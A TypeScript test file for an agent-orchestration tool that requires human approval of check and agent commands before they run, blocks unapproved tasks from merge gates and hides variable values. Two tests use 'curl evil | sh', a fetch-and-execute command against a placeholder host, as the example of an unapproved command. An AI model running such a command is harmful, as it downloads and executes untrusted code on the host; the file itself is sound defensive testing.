import { describe, expect, test } from 'vitest';
import { acceptance, whyChecksWait } from '../../../src/decide/acceptance.ts';
import { decideAnswer } from '../../../src/decide/answers.ts';
import { unacceptedOf } from '../../../src/decide/commands.ts';
import { whyGateIsOver } from '../../../src/decide/gate-line.ts';
import { explainMerging, merging } from '../../../src/decide/merging.ts';
import { isSettled } from '../../../src/decide/settled.ts';
import { standing } from '../../../src/decide/standing.ts';
import type { Unaccepted } from '../../../src/domain/command.ts';
import type { Question } from '../../../src/domain/question.ts';
import type { World } from '../../../src/domain/world.ts';
import { commandsIn } from '../../support/accepted.ts';
import { afterFacts, settled } from '../../support/folded.ts';
import { anAttempt, aPullRequest, aTask, aWish, INTEGRATION_TIP } from '../../support/ledger-parts.ts';
import { anAgent, aPolicy } from '../../support/policy.ts';
import { aWorld, type WorldParts } from '../../support/world.ts';

const check = (name: string, run: string) => ({ name, run, timeoutMs: 1_000 });
const accepted = commandsIn(aPolicy({ checks: [check('test', 'npm test')] })).commands;

function missing(run: string, tasks: Readonly<Record<string, string>> = {}): Unaccepted {
  const own = new Map(Object.entries(tasks).map(([id, its]) => [id, { checks: [check('own', its)] }]));
  const found = unacceptedOf(commandsIn(aPolicy({ checks: [check('test', run)] }), own), accepted);
  if (found === null) throw new Error('all is accepted');
  return found;
}

function changed(unaccepted: Unaccepted | null = missing('npm t'), parts: WorldParts = {}): World {
  return aWorld({ ...parts, world: { unaccepted, ...parts.world } });
}

function asked(world: World): Question {
  const [question] = [...settled(acceptance, world).ledger.questions.values()];
  if (question === undefined) throw new Error('nothing is asked');
  return question;
}

function answered(world: World, text: string): World {
  const after = settled(acceptance, world);
  const question = asked(world);
  const answer = decideAnswer(after, { question, text, order: 'o-1' });
  if (!answer.ok) throw new Error(answer.because);
  const closed = { type: 'question.closed', id: question.id, answer: text, because: 'a human' } as const;
  return afterFacts(after, ...answer.facts, closed);
}

describe('commands that changed while it runs', () => {
  test('are one question that shows new and old', () => {
    expect(asked(changed())).toMatchObject({
      topic: 'commands-changed',
      text: 'may these commands run? check "test": npm t [before: npm test]',
      about: missing('npm t').list.hash,
      holds: 'none',
    });
    expect(asked(changed(missing('npm test', { a: 'x', b: 'x' }))).text).toContain(
      'check "own" of a and 1 more: x',
    );
  });

  test('show no value of a variable', () => {
    const policy = (key: string) =>
      aPolicy({
        agents: new Map([['claude', anAgent({ kind: 'claude', command: 'claude', env: { KEY: key } })]]),
      });
    const found = unacceptedOf(commandsIn(policy('hunter22')), commandsIn(policy('hunter21')).commands);
    const { text } = asked(changed(found));
    expect(text).toContain('claude; env: KEY [before: the same with other values of its variables]');
    expect(text).not.toContain('hunter');
  });

  test('are kept as accepted after a yes, and only then', () => {
    expect(acceptance(settled(acceptance, changed()))).toEqual({ notes: [] });
    const { hash } = missing('npm t').list;
    expect(acceptance(answered(changed(), 'yes')).actions).toMatchObject([
      { kind: 'accept-commands', lane: 'home', hash, why: 'a human accepted check "test"' },
    ]);
    expect(acceptance(answered(changed(), 'no'))).toEqual({});
  });

  test('are asked about anew when they are others by then', () => {
    const other = { ...answered(changed(), 'yes'), unaccepted: missing('curl evil | sh') };
    expect(asked(other).text).toContain('curl evil | sh');
    expect(acceptance(settled(acceptance, other)).actions).toBeUndefined();
  });

  test('are not accepted by an answer to another question', () => {
    const world = settled(acceptance, changed());
    const moved = { ...world, unaccepted: missing('curl evil | sh') };
    expect(decideAnswer(moved, { question: asked(changed()), text: 'yes', order: 'o-1' })).toMatchObject({
      ok: false,
      because: 'the files name other commands by now',
    });
  });

  test('need no answer any more once the file is as it was', () => {
    const back = settled(standing, { ...settled(acceptance, changed()), unaccepted: null });
    expect(back.ledger.questions.size).toBe(0);
  });

  test('are not asked about while it goes down', () => {
    expect(acceptance(changed(undefined, { world: { stopping: 'leave-sessions' } }))).toEqual({});
  });
});

describe("a task's own check that nobody accepted", () => {
  const attempt = anAttempt({ tip: 'head1', judged: 'head1', judgedAt: 1 });
  const complete = { stage: 'complete', phase: 'gating', worker: 'w1', pullRequest: 7, attempt } as const;
  const world = changed(missing('npm test', { a: 'evil' }), {
    tasks: [aTask('a', complete)],
    wishes: [aWish('a', { checks: [check('own', 'evil')] })],
    pullRequests: [aPullRequest(7, { task: 'a', head: attempt.branch })],
  });

  test('keeps it out of the gates, and says so', () => {
    expect(merging(world).actions).toEqual([]);
    expect(explainMerging(world, 'a')).toContain('nobody accepted its checks yet (czar start asks)');
    expect(explainMerging(settled(acceptance, world), 'a')).toContain(
      'nobody accepted its checks yet (question 1)',
    );
    expect(isSettled(settled(acceptance, world))).toBe(true);
  });

  test('calls off a gate that runs', () => {
    const gate = { task: 'a', attempt: 1, head: 'head1', tip: INTEGRATION_TIP };
    expect(whyGateIsOver(world, gate)).toContain('nobody accepted its checks');
  });

  test('holds up no other task', () => {
    expect(whyChecksWait(world, 'b')).toBeNull();
    expect(merging({ ...world, unaccepted: null }).actions).toMatchObject([{ kind: 'gate', task: 'a' }]);
  });
});
